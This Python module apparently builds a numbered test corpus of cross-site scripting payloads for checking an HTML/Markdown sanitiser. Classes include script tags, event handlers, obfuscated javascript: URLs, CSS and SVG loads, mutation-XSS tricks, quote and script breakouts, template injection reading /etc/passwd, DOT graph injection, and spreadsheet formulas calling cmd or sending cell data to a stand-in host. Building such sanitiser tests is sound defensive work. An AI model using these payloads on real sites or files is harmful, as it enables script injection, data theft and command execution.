"""Known shapes of attack, written from their classes; each tells by its number that it worked.

A payload works if it calls `boem(number)`, or has the browser ask for something at `boem.invalid/number`. `%n` stands
for that number. `how` is where an unsanitised page would hold it, for without one in which it works it proves nothing.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

HOST = "boem.invalid"
CALL, CALL_IN_HTML, AT = "boem(%n)", "boem(&#37;n)", f"http://{HOST}/%n"
# Where an unsanitised page holds a payload.
RAW, MARKDOWN, DECODED, AGAIN, ATTRIBUTE, SINGLE, SCRIPT, DOT = (
    "as it is",
    "as Markdown",
    "with entities undone",
    "set twice by a script",
    "in an attribute",
    "in an attribute with single quotes",
    "in a script",
    "in a graph",
)


@dataclass(frozen=True, slots=True)
class Payload:
    """One shape: its class, its number, its text, and how a page without protection holds it."""

    sort: str
    number: int
    text: str
    how: str


def corpus() -> tuple[Payload, ...]:
    """Every payload, numbered; the numbers follow the order."""
    found = (one for sort, how, texts in CLASSES for one in ((sort, how, text) for text in texts()))
    numbered = enumerate(found, 1000)
    return tuple(Payload(sort, n, text.replace("%n", str(n)), how) for n, (sort, how, text) in numbered)


def few(number: int) -> tuple[Payload, ...]:
    """So many of them, spread over the classes: the first of each, then the second, and so on."""
    by_class: dict[str, list[Payload]] = {}
    for one in corpus():
        by_class.setdefault(one.sort, []).append(one)
    longest = max(map(len, by_class.values()))
    spread = [of[place] for place in range(longest) for of in by_class.values() if place < len(of)]
    return tuple(spread[:number])


# Elements that run or load ---------------------------------------------------------------------------------------


def scripts() -> Iterator[str]:
    spellings = ("script", "SCRIPT", "ScRiPt", "script ", "script\t", "script/x", "script type=text/javascript")
    for name in spellings:
        yield f"<{name}>{CALL}</script>"
    yield f"<script>{CALL}</script >"
    yield f"<script>{CALL}</script foo='bar'>"
    yield f"<script src={AT}></script>"
    yield f"<script src=//{HOST}/%n></script>"
    yield f"<script src=data:,{CALL}></script>"
    yield f"<script src='data:text/javascript,{CALL}'></script>"
    yield f"<script type=module>{CALL}</script>"
    yield f"<script async defer>{CALL}</script>"
    yield f"<script><!--\n{CALL}\n//--></script>"
    yield f"<script>/*<b>*/{CALL}</script>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<scr<script></script>ipt>{CALL}</script>"
    yield f"<x><script>{CALL}</script></x>"
    yield f"<p><script>{CALL}</script>"
    yield f"<noembed></noembed><script>{CALL}</script>"
    yield f"<!--><script>{CALL}</script>-->"
    yield f"<!--[if true]><script>{CALL}</script><![endif]--><script>{CALL}</script>"
    yield f"<![CDATA[<script>{CALL}</script>]]>"
    yield f"<?xml version='1.0'?><script>{CALL}</script>"
    yield f"<template></template><script>{CALL}</script>"
    yield f"</title></textarea></style></noscript><script>{CALL}</script>"
    yield "<script>eval('bo'+'em(%n)')</script>"
    yield "<script>window['bo'+'em'](%n)</script>"
    yield f"<script>setTimeout('{CALL}',1)</script>"
    yield "<script>\\u0062oem(%n)</script>"


EVENTS_BY_THEMSELVES = (
    "<img src=x onerror={call}>",
    "<img src=x:x onerror={call}>",
    "<img/src=x/onerror={call}>",
    "<img src='x'onerror='{call}'>",
    '<img src="x" onerror="{call}">',
    "<img src=x onerror\n=\n{call}>",
    "<img src=x OnErRoR={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<img src=x onerror=`{call}`//`>",
    "<img src=x onerror={call}//",
    "<img src=x onerror=&#98;oem(%n)>",
    "<img src=x onerror=&#x62;oem&lpar;%n&rpar;>",
    "<img srcset=x onerror={call}>",
    "<image src=x onerror={call}>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={call}>",
    "<picture><source srcset=x><img src=x onerror={call}></picture>",
    "<video src=x onerror={call}></video>",
    "<video><source src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<audio><source src=x onerror={call}></audio>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<iframe onload={call}></iframe>",
    "<iframe src=about:blank onload={call}></iframe>",
    "<embed src=x onerror={call}>",
    "<embed src=about:blank onload={call}>",
    "<object data=x onerror={call}></object>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<link rel=preload as=script href=x onerror={call}>",
    "<script src=x onerror={call}></script>",
    "<style onload={call}></style>",
    "<style onload={call}>x{{}}</style>",
    "<input autofocus onfocus={call}>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<select autofocus onfocus={call}></select>",
    "<button autofocus onfocus={call}>x</button>",
    "<a href=# autofocus onfocus={call} tabindex=1>x</a>",
    "<div contenteditable autofocus onfocus={call}>x</div>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<marquee onstart={call}>x</marquee>",
    "<input type=image src=x onerror={call}>",
    "<track><video controls><track kind=subtitles src=x onerror={call} default></video><img src=x onerror={call}>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k;animation-duration:1ms onanimationstart={call}>x</b>",
)
EVENTS_OF_A_READER = (
    "click",
    "dblclick",
    "mousedown",
    "mouseup",
    "mouseover",
    "mouseenter",
    "mousemove",
    "mouseout",
    "pointerover",
    "pointerdown",
    "keydown",
    "keyup",
    "keypress",
    "focus",
    "blur",
    "focusin",
    "copy",
    "cut",
    "paste",
    "drag",
    "dragstart",
    "drop",
    "wheel",
    "contextmenu",
    "auxclick",
    "touchstart",
    "beforeinput",
    "transitionend",
    "animationend",
    "scroll",
)


def handlers() -> Iterator[str]:
    for shape in EVENTS_BY_THEMSELVES:
        yield shape.format(call=CALL)
    for event in EVENTS_OF_A_READER:
        yield f'<b on{event}="{CALL}" tabindex="0">x</b>'
    for tag in ("p", "td", "h2", "details", "summary", "figure", "section", "abbr"):
        yield f"<{tag} onclick={CALL}>x</{tag}>"
    yield f'<a href="#" title="x"onclick="{CALL}">x</a>'
    yield f"<a href=# class='a'/onmouseover='{CALL}'>x</a>"
    yield f"<xss onclick={CALL}>x</xss>"
    yield f"<x-y onmouseover={CALL}>x</x-y>"


def pages_in_pages() -> Iterator[str]:
    for tag in ("iframe src", "embed src", "object data", "frame src"):
        name = tag.partition(" ")[0]
        yield f"<{tag}={AT}></{name}>"
        yield f"<{tag}=javascript:parent.{CALL}></{name}>"
    yield f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>"
    yield f"<iframe srcdoc='&lt;img src=x onerror=parent.{CALL}&gt;'></iframe>"
    yield f"<iframe src='data:text/html,<img src={AT}>'></iframe>"
    yield f"<object type=text/html data='{AT}'></object>"
    yield f"<object><param name=movie value={AT}><embed src={AT}></object>"
    yield f"<frameset><frame src={AT}></frameset>"
    yield f"<portal src={AT}></portal><iframe src={AT}></iframe>"
    yield f"<link rel=prerender href={AT}><link rel=stylesheet href={AT}>"
    yield f"<link rel=icon href={AT}>"
    yield f"<link rel=preload as=image href={AT}>"
    yield f"<meta http-equiv=refresh content='0;url={AT}'>"
    yield f"<META HTTP-EQUIV=Refresh CONTENT='0; URL={AT}'>"
    yield f"<base href={AT}/><img src=x>"
    yield f"<img src={AT}>"
    yield f"<img srcset='{AT} 1x'>"
    yield f"<video poster={AT}></video>"
    yield f"<audio src={AT} autoplay></audio>"
    yield f"<input type=image src={AT}>"
    yield f"<table background={AT}><tr><td>x</table>"
    yield f"<td background={AT}>x</td><table><tr><td background={AT}>x</table>"
    yield f"<body background={AT}>"


def forms() -> Iterator[str]:
    yield f"<form action={AT}><button>x</button></form>"
    yield f"<form action={AT}><input type=submit></form>"
    yield f"<form action={AT}><input type=image src=x></form>"
    yield f"<form id=f></form><button form=f formaction={AT}>x</button>"
    yield f"<form><button formaction={AT}>x</button></form>"
    yield f"<form><button formaction=javascript:{CALL}>x</button></form>"
    yield f"<form action=javascript:{CALL}><button>x</button></form>"
    yield f"<form><input type=submit formaction=javascript:{CALL} value=x></form>"
    yield f"<form method=dialog onsubmit={CALL}><button>x</button></form>"
    yield f"<isindex action={AT}><form action={AT}><button>x</button></form>"


# Addresses ---------------------------------------------------------------------------------------------------------

SCHEMES = (
    "javascript:",
    "JAVASCRIPT:",
    "JaVaScRiPt:",
    " javascript:",
    "\tjavascript:",
    "java\tscript:",
    "java\nscript:",
    "javascript\t:",
    "&#106;avascript:",
    "&#0000106avascript:",
    "&#x6A;avascript:",
    "&#x0006A;&#x61;vascript:",
    "j&#97v&#97script&#x3A;",
    "javascript&colon;",
    "javascript&#58;",
    "java&Tab;script:",
    "java&NewLine;script:",
    "java&#x09;script:",
    "java&#x0A;script:",
    "java&#x0D;script:",
    "&#14;javascript:",
    "&#1;javascript:",
    "javascript://%0A",
    "javascript://comment%0d%0a",
    "javascript:/**/",
    "javascript:void(0);",
    "javascript:'x';",
)
OTHER_SCHEMES = (
    f"data:text/html,<script src={AT}></script>",
    "data:text/html;base64,PHNjcmlwdD5ib2VtKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(\"{AT}\")'/>",
    f"vbscript:MsgBox({CALL})",
    f"livescript:{CALL}",
    f"blob:{CALL}",
    f"filesystem:{CALL}",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:{AT}!/x",
    f"//{HOST}/%n",
    f"\\\\{HOST}/%n",
    f"/\\{HOST}/%n",
    f"/\t/{HOST}/%n",
    f"http:/\\{HOST}/%n",
)


def addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f'<a href="{scheme}{CALL}">x</a>'
    for scheme in SCHEMES[:6]:
        yield f"<a href='{scheme}{CALL}'>x</a>"
        yield f'<area href="{scheme}{CALL}"><map name=m><area href="{scheme}{CALL}" coords=0,0,9,9></map>'
        yield f'<a href=x ping="{AT}">x</a><a href="{scheme}{CALL}">x</a>'
    for attribute in ("xlink:href", "formaction", "action", "cite", "longdesc", "poster", "src", "data-href"):
        yield f'<a {attribute}="javascript:{CALL}" href="javascript:{CALL}">x</a>'
    for other in OTHER_SCHEMES:
        yield f'<a href="{other}">x</a>'


def links() -> Iterator[str]:
    for scheme in SCHEMES:
        if "\n" not in scheme:
            yield f"[x]({scheme}{CALL})"
    for scheme in SCHEMES[:5]:
        yield f"[x]({scheme}{CALL} 'titel')"
        yield f"[x](<{scheme}{CALL}>)"
        yield f"<{scheme.strip()}{CALL}>"
        yield f"[x][een]\n\n[een]: {scheme.strip()}{CALL}"
        yield f"[x]\n\n[x]: <{scheme.strip()}{CALL}> 'titel'"
    yield f"![x](x){{: onerror={CALL} }}"
    yield f'![x](x){{: onerror="{CALL}" }}'
    yield f"[x](#){{: onclick={CALL} }}"
    yield f"[x](#){{: href='javascript:{CALL}' }}"
    yield f"Tekst.\n{{: onclick={CALL} }}"
    yield f"## Kop {{: onmouseover={CALL} }}"
    yield f"*x*{{: style='background:url({AT})' }}"
    yield f"![x]({AT})"
    yield f'![x](x "onerror={CALL}")\n\n![a](x){{: onerror={CALL} }}'
    yield f'![x"onerror="{CALL}](x)\n\n<img src=x onerror={CALL}>'
    yield f"[x](x 'a\"onclick=\"{CALL}')\n\n[x](javascript:{CALL})"
    yield f"[![x](x){{: onerror={CALL} }}](javascript:{CALL})"
    yield f"[^1]\n\n[^1]: <img src=x onerror={CALL}>"
    yield f"Term\n: <img src=x onerror={CALL}>"
    yield f"| a |\n|---|\n| <img src=x onerror={CALL}> |"
    yield f"```html\n<img src=x onerror={CALL}>\n```\n\n<img src=x onerror={CALL}>"
    yield f"~~~{{: onclick={CALL} }}\nx\n~~~\n\n<b onclick={CALL}>x</b>"
    yield f"`<img src=x onerror={CALL}>` <img src=x onerror={CALL}>"
    yield f'!!! note "<img src=x onerror={CALL}>"\n    x'
    yield f'!!! note" onclick="{CALL}\n    <b onclick={CALL}>x</b>'
    yield f"[[gewoon-opgave|<img src=x onerror={CALL}>]] <img src=x onerror={CALL}>"
    yield f"[[? <img src=x onerror={CALL}>]]"
    yield f"<div markdown=1>\n[x](javascript:{CALL})\n</div>\n\n[x](javascript:{CALL})"


# Style -------------------------------------------------------------------------------------------------------------


def styles() -> Iterator[str]:
    rules = (
        "background:url({at})",
        "background-image:url('{at}')",
        "b\\61 ckground:url({at})",
        "background:u\\72l({at})",
        "background:\\75\\72\\6c({at})",
        "background/**/:url({at})",
        "list-style-image:url({at});display:list-item",
        "border-image-source:url({at});border-image-slice:1;border-style:solid",
        "cursor:url({at}),auto;background:url({at})",
        "content:url({at})",
        "--x:url({at});background:var(--x)",
        "background:image-set('{at}' 1x)",
        "mask-image:url({at});background:url({at})",
        "filter:url({at}#f);background:url({at})",
    )
    for rule in rules:
        yield f'<b style="{rule.format(at=AT)}">x</b>'
        yield f"<style>*{{{rule.format(at=AT)}}}</style>"
    yield f"<style>@import '{AT}';</style>"
    yield f"<style>@import url({AT});</style>"
    yield f"<style>@\\69mport url({AT});</style>"
    yield f"<style>@font-face{{font-family:x;src:url({AT})}}*{{font-family:x}}</style>"
    yield f"<style><!--</style><style>*{{background:url({AT})}}</style>"
    yield f"<link rel=stylesheet href='data:text/css,*{{background:url({AT})}}'>"
    yield f'<div style="position:fixed;inset:0;background:url({AT})">x</div>'
    yield f"<svg style='background:url({AT})'></svg>"


# SVG, MathML and text that is parsed twice -----------------------------------------------------------------------


def drawings() -> Iterator[str]:
    yield f"<svg onload={CALL}>"
    yield f"<svg/onload={CALL}>"
    yield f"<svg><script>{CALL}</script></svg>"
    yield "<svg><script>boem&#40;%n&#41;</script></svg>"
    yield f"<svg><script href={AT}></script></svg>"
    yield f"<svg><script xlink:href=data:,{CALL}></script></svg>"
    yield f"<svg><a href='javascript:{CALL}'><text>x</text></a></svg>"
    yield f"<svg><a xlink:href='javascript:{CALL}'><text>x</text></a></svg>"
    yield f"<svg><a><animate attributeName=href values=javascript:{CALL} dur=1ms fill=freeze /><text>x</text></a></svg>"
    yield f"<svg><a><set attributeName=href to=javascript:{CALL} /><text>x</text></a></svg>"
    yield f"<svg><animate onbegin={CALL} attributeName=x dur=1s>"
    yield f"<svg><animate onend={CALL} attributeName=x dur=1ms>"
    yield f"<svg><set onbegin={CALL} attributeName=x to=1>"
    yield f"<svg><animateTransform onbegin={CALL} attributeName=transform>"
    yield f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>parent.{CALL}</script>'></iframe></foreignObject></svg>"
    yield f"<svg><image href={AT}></image></svg>"
    yield f"<svg><image xlink:href={AT}></image></svg>"
    yield f"<svg><image href=x onerror={CALL}></image></svg>"
    yield f"<svg><feImage href={AT}></feImage><image href={AT}></image></svg>"
    yield f"<svg><use href={AT}#x></use><image href={AT}></image></svg>"
    yield f"<svg><style>*{{background:url({AT})}}</style><text>x</text></svg><style>*{{background:url({AT})}}</style>"
    yield f"<svg><desc><img src=x onerror={CALL}></desc></svg>"
    yield f"<svg><title><img src=x onerror={CALL}></title></svg>"
    yield f"<svg><g onload={CALL}></g></svg>"
    yield f"<svg><handler onload={CALL}></svg><svg onload={CALL}>"
    yield f"<math><a xlink:href='javascript:{CALL}' href='javascript:{CALL}'>x</a></math>"
    yield f"<math><mtext><img src=x onerror={CALL}></mtext></math>"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>"


def mutations() -> Iterator[str]:
    image = f"<img src=x onerror={CALL}>"
    hidden = image.replace("<", "&lt;").replace(">", "&gt;")
    for tag in (
        "noscript",
        "style",
        "xmp",
        "textarea",
        "title",
        "noembed",
        "noframes",
        "iframe",
        "script",
        "plaintext",
    ):
        yield f'<{tag}><p title="</{tag}>{image}"></{tag}>'
        yield f"<p><svg><{tag}><a title='</{tag}>{image}'>"
    yield f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{hidden}'>"
    yield f'<svg></p><style><a id="</style>{image}">'
    yield f'<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea>{image}">'
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f'<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>{image}">'
    yield f'<svg><p><style><g title="</style>{image}">'
    yield f"<table><caption><svg><title><template><style></title></svg>{image}</style></template></table>{image}"
    yield f"<!--<a b='--!>{image}<!--'>"
    yield f"<!-->{image}-->"
    yield f"<!--->{image}-->"
    yield f"<!--x--!>{image}-->"
    yield f"<?x {image}?>{image}"
    yield f"</x {image}>{image}"
    yield f"<a title='<!--'>x</a>{image}<b title='-->'>"
    yield f'<p title="`onmouseover={CALL}">x</p>{image}'
    yield f"<select><template>{image}</template></select><select>{image}</select>{image}"
    yield f"<listing>{hidden}</listing>{image}"
    yield f"<x/><title>&lt;/title>{image}</title>{image}"


# Text that is decoded or breaks out ---------------------------------------------------------------------------------


def entities() -> Iterator[str]:
    yield f"&lt;img src=x onerror={CALL}&gt;"
    yield f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield f"&#60;img src=x onerror={CALL}&#62;"
    yield f"&#x3c;img src=x onerror={CALL}&#x3E;"
    yield f"&#x000003c;svg onload={CALL}&#62;"
    yield f"&LT;svg onload={CALL}&GT;"
    yield f"&lt&semi;x &lt;iframe onload={CALL}&gt;"
    yield f"&quot;&gt;&lt;img src=x onerror={CALL}&gt;"
    yield f"&apos;&gt;&lt;img src=x onerror={CALL}&gt;"
    yield f"&lt;a href=&quot;javascript:{CALL}&quot;&gt;x&lt;/a&gt;"
    yield f"&lt;b onclick=&quot;{CALL}&quot;&gt;x&lt;/b&gt;"
    yield f"&lt;style&gt;*&lbrace;background:url({AT})&rbrace;&lt;/style&gt;"


def _breaking(quote: str) -> Iterator[str]:
    yield f"{quote}><img src=x onerror={CALL}>"
    yield f"{quote}><script>{CALL}</script>"
    yield f"x{quote} autofocus tabindex=1 onfocus={quote}{CALL}"
    yield f"x{quote} onclick={quote}{CALL}{quote} x={quote}"
    yield f"{quote}onmouseover={quote}{CALL}"
    yield f"x{quote}/onclick={quote}{CALL}"
    yield f"{quote}></a><svg onload={CALL}>"
    yield f"{quote} style={quote}background:url({AT})"
    yield f"--{quote}><iframe onload={CALL}>"
    yield f"{quote}></title><img src=x onerror={CALL}>"
    yield f"]]>{quote}><img src=x onerror={CALL}>"
    yield f"{quote} href={quote}javascript:{CALL}"
    yield f"{quote}></textarea></select></option><img src=x onerror={CALL}>"


def double_quotes() -> Iterator[str]:
    yield from _breaking('"')


def single_quotes() -> Iterator[str]:
    yield from _breaking("'")


def in_scripts() -> Iterator[str]:
    yield f"</script><script>{CALL}</script>"
    yield f"</SCRIPT><img src=x onerror={CALL}>"
    yield f"</script ><svg onload={CALL}>"
    yield f"</script\t><iframe onload={CALL}></iframe>"
    yield f"</script/><script>{CALL}</script>"
    yield f"<!--<script></script><script>{CALL}</script>"
    yield f"</script><!--<script>{CALL}</script>--><script>{CALL}</script>"
    yield f'";{CALL};//</script><script>{CALL}</script>'
    yield f"';{CALL};//</script><script>{CALL}</script>"
    yield f'\\";{CALL}//</script><script>{CALL}</script>'
    yield f"${{{CALL}}}</script><script>{CALL}</script>"
    yield f"*/{CALL}/*</script><script>{CALL}</script>"
    yield f"__proto__</script><script>{CALL}</script>"


def in_templates() -> Iterator[str]:
    image = f"<img src=x onerror={CALL}>"
    yield f"{{{{ 7*7 }}}}{image}"
    yield f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}{image}"
    yield f"{{{{ config.__class__.__init__.__globals__ }}}}{image}"
    yield f"{{# x #}}{image}"
    yield f"{{% include '/etc/passwd' %}}{image}"
    yield f"{{{{ '<img src=x onerror={CALL}>' | safe }}}}{image}"
    yield f"%(x)s %s {{0.__class__}} {{x!r}} ${{x}} $x{image}"
    yield f"{{path}} {{n}} {{}}{image}"


def in_graphs() -> Iterator[str]:
    address = f"javascript:{CALL}"
    yield f'x" URL="{address}'
    yield f'x", URL="{address}", label="y'
    yield f'x"]; kwaad [label="y" URL="{address}'
    yield f'x"]; subgraph cluster_x {{ label="y" URL="{address}" }} b [label="z" URL="{address}'
    yield f'x\\" URL=\\"x" URL="{address}'
    yield f'x" tooltip="y" href="{address}'
    yield f'x" labelURL="y" URL="{address}'
    yield f'\\N\\G\\E\\T\\H\\L" URL="{address}'
    yield f'x\\l\\r\\n" URL="{address}'
    yield f'<b>x</b>" URL="{address}'
    yield f'<<table href=\\"x\\"></table>>" URL="{address}'
    yield f'/* x */ // y" URL="{address}'
    yield f'# x" URL="{address}'
    yield f'&lt;&#60;&amp;" URL="{address}'
    yield f'x" image="/etc/passwd" shapefile="/etc/passwd" URL="{address}'


CLASSES = (
    ("script", RAW, scripts),
    ("handler", RAW, handlers),
    ("page in a page", RAW, pages_in_pages),
    ("form", RAW, forms),
    ("address", RAW, addresses),
    ("Markdown", MARKDOWN, links),
    ("style", RAW, styles),
    ("SVG", RAW, drawings),
    ("mutation", AGAIN, mutations),
    ("entity", DECODED, entities),
    ("double quote", ATTRIBUTE, double_quotes),
    ("single quote", SINGLE, single_quotes),
    ("text in a script", SCRIPT, in_scripts),
    ("template", RAW, in_templates),
    ("graph", DOT, in_graphs),
)
SORTS = tuple(sort for sort, _, _ in CLASSES)

# Cells ---------------------------------------------------------------------------------------------------------------

FORMULAS = tuple(
    f"{start}{rest}"
    for start, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "'=", "＝", "=+", "@=", "-+"),
        (
            f'HYPERLINK("http://{HOST}/1","klik")',
            "cmd|' /C calc'!A0",
            "SUM(1+1)*cmd|' /C calc'!A0",
            f'WEBSERVICE("http://{HOST}/1")',
            f'IMPORTXML(CONCAT("http://{HOST}/",A1),"//a")',
            "1+1",
        ),
    )
)
